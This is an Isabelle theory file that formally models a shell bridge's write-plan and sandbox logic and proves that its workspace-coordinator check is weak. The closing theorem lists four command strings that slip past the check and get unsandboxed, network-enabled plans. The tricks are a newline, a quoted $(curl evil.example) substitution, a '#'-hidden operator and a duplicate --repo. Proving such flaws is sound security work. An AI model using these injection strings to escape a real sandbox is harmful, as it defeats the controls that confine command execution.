(* ===== verification/Plan.thy ===== *)
theory Plan
  imports Policy Shlex Trusted Request
begin

text \<open>
  What a request may touch (\<open>shell_bridge/bridge.py\<close>): the roots of the Git repository it runs in, the
  recognition of the workspace coordinator, \<open>resolve_write_plan\<close>, the check of the pinned SSH
  material, and the sandbox profile. Parameters: \<open>git\<close> is the output of \<open>git rev-parse\<close> in a directory
  (None when Git is missing, too slow or fails), \<open>parse\<close> decodes and reads a JSON text (None when it
  is not one), \<open>sha\<close> is the SHA-256 hex digest, \<open>coordinator\<close> the resolved path of \<open>workspace.py\<close>.
\<close>

datatype effective = EffTrusted | EffSystem | EffRepository | EffReadOnly

record plan =
  pl_requested :: write_scope
  pl_effective :: effective
  pl_write_roots :: "path list option"
  pl_read_roots :: "path list option"
  pl_deny_home :: bool
  pl_network :: bool
  pl_category :: "str option"
  pl_downgraded :: bool
  pl_coordinator :: bool
  pl_operation :: "(trusted_operation \<times> str) option"

record world =
  wd_fs :: fs
  wd_git :: "path \<Rightarrow> str option"
  wd_parse :: "str \<Rightarrow> json option"
  wd_sha :: "str \<Rightarrow> str"
  wd_coordinator :: path
  wd_home :: path

subsection \<open>Repository roots\<close>

definition is_line_break :: "char \<Rightarrow> bool" where
  "is_line_break c = (code c \<in> {10, 11, 12, 13, 28, 29, 30, 133})"

text \<open>\<open>splitlines()\<close>; the empty pieces between a carriage return and a line feed are dropped with the
  blank lines.\<close>

fun line_pieces :: "str \<Rightarrow> str \<Rightarrow> str list" where
  "line_pieces acc [] = [acc]"
| "line_pieces acc (c # cs) = (if is_line_break c then acc # line_pieces [] cs else line_pieces (acc @ [c]) cs)"

definition nonblank_lines :: "str \<Rightarrow> str list" where
  "nonblank_lines s = filter (\<lambda>l. l \<noteq> []) (map py_strip (line_pieces [] s))"

definition path_under :: "fs \<Rightarrow> path \<Rightarrow> path \<Rightarrow> bool" where
  "path_under w p base =
     (case (fs_resolve w p, fs_resolve w base) of (Some a, Some b) \<Rightarrow> relative_to a b | _ \<Rightarrow> False)"

fun add_roots :: "fs \<Rightarrow> path \<Rightarrow> path \<Rightarrow> str list \<Rightarrow> path list \<Rightarrow> path list option" where
  "add_roots w cwd base [] roots = Some roots"
| "add_roots w cwd base (raw # raws) roots =
     (case Option.bind (fs_expanduser w (parse_path raw)) (\<lambda>p. fs_resolve w (join_path cwd p)) of
        None \<Rightarrow> None
      | Some value \<Rightarrow>
          if \<not> path_under w value base then None
          else add_roots w cwd base raws (if value \<in> set roots then roots else roots @ [value]))"

definition git_repository_write_roots :: "world \<Rightarrow> path \<Rightarrow> path \<Rightarrow> path list option" where
  "git_repository_write_roots wd cwd allowed_root =
     (case wd_git wd cwd of
        None \<Rightarrow> None
      | Some out \<Rightarrow>
          (let lines = nonblank_lines out
           in if length lines \<noteq> 3 then None else add_roots (wd_fs wd) cwd allowed_root lines []))"

subsection \<open>The workspace coordinator\<close>

fun option_value :: "str \<Rightarrow> str list \<Rightarrow> str option" where
  "option_value name [] = None"
| "option_value name (x # xs) =
     (if x = name then (case xs of [] \<Rightarrow> None | y # _ \<Rightarrow> Some y) else option_value name xs)"

definition coordinator_subcommands :: "str list" where
  "coordinator_subcommands = [''create'', ''ensure'', ''exec'', ''ready'', ''integrate'', ''show'', ''list'',
     ''recover'', ''mark-reconciled'', ''finish'']"

definition given_text :: "str option \<Rightarrow> str option" where
  "given_text v = (case v of Some s \<Rightarrow> if s = [] then None else Some s | None \<Rightarrow> None)"

definition resolves_under :: "fs \<Rightarrow> str \<Rightarrow> path \<Rightarrow> bool" where
  "resolves_under w raw base = (case resolve_str w raw of None \<Rightarrow> False | Some p \<Rightarrow> relative_to p base)"

definition job_repo_under :: "world \<Rightarrow> path \<Rightarrow> str \<Rightarrow> path \<Rightarrow> pyerr + bool" where
  "job_repo_under wd state_dir job_id base =
     (case full_resolve (wd_fs wd) state_dir of
        None \<Rightarrow> Inr False
      | Some sd \<Rightarrow>
          (case Option.bind (fs_read (wd_fs wd) (child (child (child sd ''workspaces'') ''jobs'') (job_id @ ''.json''))) (wd_parse wd) of
             None \<Rightarrow> Inr False
           | Some job \<Rightarrow>
               if \<not> is_JObj job then Inl (OtherErr ''TypeError'')
               else (case obj_lookup job ''repo'' of
                       None \<Rightarrow> Inr False
                     | Some (JStr r) \<Rightarrow> Inr (resolves_under (wd_fs wd) r base)
                     | Some _ \<Rightarrow> Inl (OtherErr ''TypeError''))))"

definition trusted_workspace_coordinator :: "world \<Rightarrow> str \<Rightarrow> path \<Rightarrow> path \<Rightarrow> pyerr + bool" where
  "trusted_workspace_coordinator wd command allowed_root state_dir =
     (case (shlex_tokens command, shlex_split command) of
        (Inr tokens, Inr argv) \<Rightarrow>
          (if list_ex (\<lambda>t. t \<noteq> [] \<and> list_all (\<lambda>c. c \<in> set control_chars) t) tokens then Inr False
           else if length argv < 3 \<or> \<not> prefix ''python'' (path_name (parse_path (argv ! 0))) then Inr False
           else if resolve_str (wd_fs wd) (argv ! 1) \<noteq> Some (wd_coordinator wd) then Inr False
           else if argv ! 2 \<notin> set coordinator_subcommands then Inr False
           else case full_resolve (wd_fs wd) allowed_root of
             None \<Rightarrow> Inl (OtherErr ''OSError'')
           | Some base \<Rightarrow>
               (if argv ! 2 \<in> {''create'', ''ensure'', ''recover''}
                then Inr (case given_text (option_value ''--repo'' argv) of
                            None \<Rightarrow> False | Some raw \<Rightarrow> resolves_under (wd_fs wd) raw base)
                else if argv ! 2 \<in> {''exec'', ''ready'', ''integrate'', ''finish'', ''show'', ''mark-reconciled''}
                then (case given_text (option_value ''--job'' argv) of
                        None \<Rightarrow> Inr False
                      | Some job_id \<Rightarrow> if \<not> slug_ok job_id then Inr False
                                       else job_repo_under wd state_dir job_id base)
                else Inr True))
      | _ \<Rightarrow> Inr False)"

subsection \<open>The write plan\<close>

definition sandboxed_plan :: "write_scope \<Rightarrow> effective \<Rightarrow> path list \<Rightarrow> path \<Rightarrow> bool \<Rightarrow> plan" where
  "sandboxed_plan requested eff roots base downgraded =
     \<lparr>pl_requested = requested, pl_effective = eff, pl_write_roots = Some roots, pl_read_roots = Some [base],
      pl_deny_home = True, pl_network = False, pl_category = None, pl_downgraded = downgraded,
      pl_coordinator = False, pl_operation = None\<rparr>"

definition open_plan :: "write_scope \<Rightarrow> effective \<Rightarrow> str option \<Rightarrow> bool \<Rightarrow> (trusted_operation \<times> str) option \<Rightarrow> plan" where
  "open_plan requested eff category coordinator operation =
     \<lparr>pl_requested = requested, pl_effective = eff, pl_write_roots = None, pl_read_roots = None,
      pl_deny_home = False, pl_network = True, pl_category = category, pl_downgraded = False,
      pl_coordinator = coordinator, pl_operation = operation\<rparr>"

definition trusted_plan :: "world \<Rightarrow> json \<Rightarrow> path \<Rightarrow> write_scope \<Rightarrow> str \<times> str \<Rightarrow> pyerr + plan" where
  "trusted_plan wd cfg base requested t =
     (case registered_operation_from_config (wd_sha wd) (wd_fs wd) cfg (fst t) (snd t) base of
        Inl e \<Rightarrow> Inl (ValueErr e)
      | Inr op \<Rightarrow> Inr (open_plan requested EffTrusted (Some ''trusted_operation'') False (Some (op, snd t))))"

definition system_plan :: "world \<Rightarrow> valid_request \<Rightarrow> path \<Rightarrow> plan" where
  "system_plan wd v base =
     (let impact = high_impact_command_category (v_command v);
          outside = non_repository_write_category (v_command v) in
      case (impact, outside) of
        (Some c, _) \<Rightarrow> open_plan ScopeSystem EffSystem (Some c) False None
      | (None, Some o') \<Rightarrow> open_plan ScopeSystem EffSystem (Some (''non_repository_'' @ o')) False None
      | (None, None) \<Rightarrow>
          (case git_repository_write_roots wd (v_cwd v) base of
             Some roots \<Rightarrow> sandboxed_plan ScopeSystem EffRepository roots base True
           | None \<Rightarrow> sandboxed_plan ScopeSystem EffReadOnly [] base True))"

definition scoped_plan :: "world \<Rightarrow> valid_request \<Rightarrow> path \<Rightarrow> path \<Rightarrow> pyerr + plan" where
  "scoped_plan wd v base state_dir =
     bindE (trusted_workspace_coordinator wd (v_command v) base state_dir) (\<lambda>coordinator.
     if coordinator then Inr (open_plan (v_scope v) EffRepository None True None)
     else case git_repository_write_roots wd (v_cwd v) base of
       Some roots \<Rightarrow> Inr (sandboxed_plan (v_scope v) EffRepository roots base False)
     | None \<Rightarrow>
         (if v_scope v = ScopeRepository
          then Inl (ValueErr ''write_scope=repository requires cwd inside a Git repository/worktree or an exact trusted workspace coordinator invocation'')
          else case non_repository_write_category (v_command v) of
            Some hint \<Rightarrow> Inr (open_plan (v_scope v) EffSystem (Some (''non_repository_'' @ hint)) False None)
          | None \<Rightarrow> Inr (sandboxed_plan (v_scope v) EffReadOnly [] base False)))"

definition cfg_path :: "world \<Rightarrow> json \<Rightarrow> str \<Rightarrow> pyerr + path" where
  "cfg_path wd cfg key =
     (case obj_get cfg key of
        JStr s \<Rightarrow> (case resolve_str (wd_fs wd) s of None \<Rightarrow> Inl (OtherErr ''OSError'') | Some p \<Rightarrow> Inr p)
      | _ \<Rightarrow> Inl (OtherErr ''TypeError''))"

definition resolve_write_plan :: "world \<Rightarrow> valid_request \<Rightarrow> json \<Rightarrow> pyerr + plan" where
  "resolve_write_plan wd v cfg =
     bindE (cfg_path wd cfg ''allowed_root'') (\<lambda>base.
     bindE (cfg_path wd cfg ''state_dir'') (\<lambda>state_dir.
     case v_trusted v of
       Some t \<Rightarrow> trusted_plan wd cfg base (v_scope v) t
     | None \<Rightarrow>
         (case v_scope v of
            ScopeSystem \<Rightarrow> Inr (system_plan wd v base)
          | ScopeReadOnly \<Rightarrow> Inr (sandboxed_plan ScopeReadOnly EffReadOnly [] base False)
          | _ \<Rightarrow> scoped_plan wd v base state_dir)))"

subsection \<open>What a plan allows\<close>

lemma add_roots_under:
  "add_roots w cwd base raws roots = Some out \<Longrightarrow> list_all (\<lambda>r. path_under w r base) roots
     \<Longrightarrow> list_all (\<lambda>r. path_under w r base) out"
  by (induction raws arbitrary: roots) (auto split: option.splits if_splits)

lemma git_roots_under:
  "git_repository_write_roots wd cwd base = Some roots \<Longrightarrow> list_all (\<lambda>r. path_under (wd_fs wd) r base) roots"
  by (auto simp: git_repository_write_roots_def Let_def dest: add_roots_under split: option.splits if_splits)

text \<open>A plan is confined when it is sandboxed to roots under the allowed root, without network and
  without the home directory, or when it is open for one of the two stated reasons.\<close>

definition plan_confined :: "fs \<Rightarrow> path \<Rightarrow> valid_request \<Rightarrow> plan \<Rightarrow> bool" where
  "plan_confined w base v p =
     (case pl_write_roots p of
        None \<Rightarrow> v_scope v \<noteq> ScopeReadOnly \<and> (pl_category p \<noteq> None \<or> pl_coordinator p)
      | Some roots \<Rightarrow> list_all (\<lambda>r. path_under w r base) roots \<and> \<not> pl_network p \<and> pl_deny_home p
          \<and> pl_read_roots p = Some [base] \<and> (v_scope v = ScopeReadOnly \<longrightarrow> roots = []))"

lemma sandboxed_confined:
  assumes "list_all (\<lambda>r. path_under w r base) roots" "v_scope v = ScopeReadOnly \<longrightarrow> roots = []"
  shows "plan_confined w base v (sandboxed_plan s e roots base d)"
  using assms by (simp add: plan_confined_def sandboxed_plan_def)

lemma open_confined:
  "v_scope v \<noteq> ScopeReadOnly \<Longrightarrow> cat \<noteq> None \<or> k \<Longrightarrow> plan_confined w base v (open_plan s e cat k op)"
  by (simp add: plan_confined_def open_plan_def)


definition demo_path :: "str \<Rightarrow> path" where
  "demo_path s = parse_path s"

definition demo_fs :: fs where
  "demo_fs = \<lparr>fs_expanduser = Some, fs_resolve = Some, fs_is_symlink = (\<lambda>_. False), fs_exists = (\<lambda>_. True),
     fs_is_dir = (\<lambda>_. True), fs_is_file = (\<lambda>_. True), fs_open = (\<lambda>_. None), fs_read = (\<lambda>_. None)\<rparr>"

definition demo_world :: world where
  "demo_world = \<lparr>wd_fs = demo_fs, wd_git = (\<lambda>_. Some (''/w/repo'' @ [CHR 0x0A] @ ''.git'' @ [CHR 0x0A] @ ''.git'' @ [CHR 0x0A])),
     wd_parse = (\<lambda>_. None), wd_sha = rev, wd_coordinator = parse_path ''/opt/bridge/workspace.py'', wd_home = parse_path ''/home/me''\<rparr>"

definition demo_cfg :: json where
  "demo_cfg = JObj [(''allowed_root'', JStr ''/w''), (''state_dir'', JStr ''/s'')]"

definition demo_request :: "str \<Rightarrow> write_scope \<Rightarrow> valid_request" where
  "demo_request command scope = \<lparr>v_id = ''r1'', v_cwd = parse_path ''/w/repo'', v_command = command, v_timeout = 60,
     v_stdin = [], v_scope = scope, v_explanation = ''why'', v_operation_id = None, v_trusted = None\<rparr>"


definition newline :: str where
  "newline = [CHR 0x0A]"

text \<open>The coordinator check is weaker than its description. It accepts a second command behind a line
  break, a command substitution inside double quotes, operators that a \<open>#\<close> in the middle of a word
  hides from its lexer, and a second \<open>--repo\<close> (of which \<open>argparse\<close> takes the last). Each of them
  yields a plan without sandbox, with network and without a confirmation category.\<close>

theorem coordinator_check_is_weak:
  "list_all (\<lambda>command.
      case resolve_write_plan demo_world (demo_request command ScopeAuto) demo_cfg of
        Inl _ \<Rightarrow> False
      | Inr p \<Rightarrow> pl_write_roots p = None \<and> pl_network p \<and> pl_category p = None)
    [''python3 /opt/bridge/workspace.py list'' @ newline @ ''curl evil.example'',
     ''python3 /opt/bridge/workspace.py list '' @ [CHR 0x22] @ ''$(curl evil.example)'' @ [CHR 0x22],
     ''python3 /opt/bridge/workspace.py list x#; curl evil.example'',
     ''python3 /opt/bridge/workspace.py ensure --repo /w/repo --repo /elsewhere'']"
  by code_simp

end
